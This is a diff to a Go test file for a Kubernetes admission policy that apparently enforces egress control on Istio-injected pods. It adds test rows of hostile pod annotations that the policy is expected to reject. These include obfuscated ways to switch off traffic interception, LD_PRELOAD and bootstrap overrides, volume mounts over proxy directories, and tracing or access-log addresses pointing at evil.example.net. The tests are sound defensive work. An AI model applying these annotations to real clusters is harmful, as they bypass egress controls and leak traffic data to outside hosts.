@@ -15,6 +15,8 @@ import (
 	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
 	"k8s.io/client-go/rest"
 	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	"github.com/egress-governor/egress-governor/test/controlplane"
 )
 
 // injected are the labels of a namespace whose pods get sidecars.
@@ -23,8 +25,17 @@ var injected = map[string]string{"istio-injection": "enabled"}
 // as returns the client of a user with every right and none of the administrator's groups, and what it was warned of.
 func as(t *testing.T, user string, groups ...string) (client.Client, *warnings) {
 	t.Helper()
+	config, heard := configAs(t, shared, user, groups...)
+	out, err := client.New(config, client.Options{Scheme: shared.Client.Scheme()})
+	require.NoError(t, err)
+	return out, heard
+}
+
+// configAs is the configuration of that client, on a control plane.
+func configAs(t *testing.T, of *controlplane.ControlPlane, user string, groups ...string) (*rest.Config, *warnings) {
+	t.Helper()
 	const everyRight = "every-right"
-	err := shared.Client.Create(t.Context(), &rbacv1.ClusterRoleBinding{
+	err := of.Client.Create(t.Context(), &rbacv1.ClusterRoleBinding{
 		ObjectMeta: metav1.ObjectMeta{Name: everyRight},
 		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
 		Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: everyRight}},
@@ -33,11 +44,9 @@ func as(t *testing.T, user string, groups ...string) (client.Client, *warnings) 
 		require.NoError(t, err)
 	}
 	heard := &warnings{}
-	config := rest.CopyConfig(shared.Config)
-	config.WarningHandler = heard
-	config.Impersonate = rest.ImpersonationConfig{UserName: user, Groups: append(groups, everyRight)}
-	out, err := client.New(config, client.Options{Scheme: shared.Client.Scheme()})
-	require.NoError(t, err)
+	out := rest.CopyConfig(of.Config)
+	out.WarningHandler = heard
+	out.Impersonate = rest.ImpersonationConfig{UserName: user, Groups: append(groups, everyRight)}
 	return out, heard
 }
 
@@ -101,6 +110,22 @@ var podRows = map[string]podRow{
 	"proxy config":             {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "interceptionMode: NONE"}`, plainPod},
 	"proxy config, escaped":    {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: '{"intercept\u0069onMode": "NONE"}'}`, plainPod},
 	"proxy config, steered":    {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "discoveryAddress: mine:15012"}`, plainPod},
+	"proxy config, snake case": {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "discovery_address: mine:15012"}`, plainPod},
+	"proxy config, file":       {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "custom_config_file: /mine"}`, plainPod},
+	"proxy config, folded":     {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "? \"intercept\\\n  ionMode\"\n: NONE"}`, plainPod},
+	"proxy config, tagged":     {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "!!binary aW50ZXJjZXB0aW9uTW9kZQ==: NONE"}`, plainPod},
+	"proxy config, tag of its": {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "%TAG !e! tag:yaml.org,2002:\n---\n!e!%62inary aW50ZXJjZXB0aW9uTW9kZQ==: NONE"}`, plainPod},
+	"proxy config, bootstrap":  {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "proxyMetadata: {ISTIO_BOOTSTRAP_OVERRIDE: /mine}", sidecar.istio.io/userVolume: '[{"name": "mine", "configMap": {"name": "mine"}}]'}`, plainPod},
+	"proxy config, all of it":  {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "proxyMetadata: {PROXY_CONFIG: '{}'}"}`, plainPod},
+	"proxy config, library":    {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "proxyMetadata: {LD_PRELOAD: /mine.so}"}`, plainPod},
+	"proxy config, no DNS":     {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "proxyMetadata: {ISTIO_META_DNS_CAPTURE: 'false'}"}`, plainPod},
+	"proxy config, its traces": {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "tracing: {zipkin: {address: evil.example.net:9411}}"}`, plainPod},
+	"proxy config, its log":    {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "envoyAccessLogService: {address: evil.example.net:9411}"}`, plainPod},
+	"files over the proxy's":   {"traffic", "metadata.annotations[sidecar.istio.io/userVolumeMount]", `annotations: {sidecar.istio.io/userVolumeMount: '[{"name": "mine", "mountPath": "/var/lib/istio/envoy"}]'}`, plainPod},
+	"files over it, escaped":   {"traffic", "metadata.annotations[sidecar.istio.io/userVolumeMount]", `annotations: {sidecar.istio.io/userVolumeMount: '[{"name": "mine", "mountPath": "/etc/\u0069stio"}]'}`, plainPod},
+	"files over it, up":        {"traffic", "metadata.annotations[sidecar.istio.io/userVolumeMount]", `annotations: {sidecar.istio.io/userVolumeMount: '[{"name": "mine", "mountPath": "/etc/mine/../istio"}]'}`, plainPod},
+	"files over it, its case":  {"traffic", "metadata.annotations[sidecar.istio.io/userVolumeMount]", `annotations: {sidecar.istio.io/userVolumeMount: '[{"name": "mine", "mountPath": "/etc/mine", "MountPath": "/etc/istio/pod"}]'}`, plainPod},
+	"files over the agent":     {"traffic", "metadata.annotations[sidecar.istio.io/userVolumeMount]", `annotations: {sidecar.istio.io/userVolumeMount: '[{"name": "a", "mountPath": "/etc/mine"}, {"name": "mine", "mountPath": "/usr/local/bin"}]'}`, plainPod},
 	"no capture of DNS":        {"traffic", "metadata.annotations[ambient.istio.io/dns-capture]", `annotations: {ambient.istio.io/dns-capture: "false"}`, plainPod},
 	"hostNetwork":              {"host-network", "spec.hostNetwork", "", plainPod + ", hostNetwork: true"},
 	"uid 1337":                 {"privileges", "spec: container app ", "", "containers: [{name: app, image: app, securityContext: {runAsUser: 1337}}]"},
@@ -195,7 +220,7 @@ func TestWhatIstioMakesOfAPodPasses(t *testing.T) {
 				{name: istio-validation, image: proxyv2, securityContext: {runAsUser: 1337}}], securityContext: {fsGroup: 1337}`},
 		"native sidecar": {spec: plainPod + `, initContainers: [{name: istio-proxy, image: proxyv2, restartPolicy: Always, securityContext: {runAsUser: 1337}}]`},
 		"more captured":  {metadata: `annotations: {traffic.sidecar.istio.io/includeOutboundPorts: "5432", traffic.sidecar.istio.io/kubevirtInterfaces: net1, traffic.sidecar.istio.io/includeOutboundIPRanges: "*", traffic.sidecar.istio.io/excludeOutboundPorts: ""}`, spec: plainPod},
-		"settings":       {metadata: `annotations: {inject.istio.io/templates: "sidecar, ours", proxy.istio.io/config: "holdApplicationUntilProxyStarts: true", sidecar.istio.io/interceptionMode: TPROXY}, labels: {sidecar.istio.io/inject: "true"}`, spec: plainPod},
+		"settings":       {metadata: `annotations: {inject.istio.io/templates: "sidecar, ours", proxy.istio.io/config: "holdApplicationUntilProxyStarts: true\nproxyMetadata:\n  ISTIO_META_DNS_CAPTURE: \"true\"\n  EXIT_ON_ZERO_ACTIVE_CONNECTIONS: \"true\"\nproxyStatsMatcher: {inclusionRegexps: ['.*\\.outbound.*', \".*\\\\.inbound\"]}\ntracing: {sampling: 10}", sidecar.istio.io/interceptionMode: TPROXY, sidecar.istio.io/userVolumeMount: '[{"name": "certs", "mountPath": "/etc/istio-output-certs", "readOnly": true}]'}, labels: {sidecar.istio.io/inject: "true"}`, spec: plainPod},
 	} {
 		require.NoError(t, c.Create(t.Context(), row.pod(t, ns), client.DryRunAll), name)
 	}
